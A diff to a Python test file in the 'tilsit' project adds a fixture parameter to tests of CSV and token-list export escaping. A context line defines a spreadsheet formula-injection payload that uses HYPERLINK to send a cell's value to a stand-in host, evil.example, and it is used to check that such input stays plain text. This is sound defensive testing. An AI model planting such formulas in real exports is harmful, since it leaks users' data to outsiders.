@@ -20,6 +20,7 @@ from tilsit.auth.tokens import create_token
 from tilsit.config import Settings
 from tilsit.db.engine import Database
 from tilsit.index.manage import get_user
+from tilsit.instance import Instance
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
 
@@ -73,7 +74,9 @@ def test_a_login_name_typed_as_a_formula_is_text_in_the_csv(live_server: LiveSer
     assert [json.loads(line)["actor"] for line in lines.splitlines()] == [FORMULA]
 
 
-def test_token_list_keeps_a_description_in_its_own_cell(settings: Settings) -> None:
+def test_token_list_keeps_a_description_in_its_own_cell(
+    settings: Settings, instance: Instance
+) -> None:
     """The tab-separated ``token list`` is the sibling: a description with a newline and
     tabs (the web form keeps inner ones) must not forge a row of its own."""
     run_cli(settings, "user", "create", "alice")
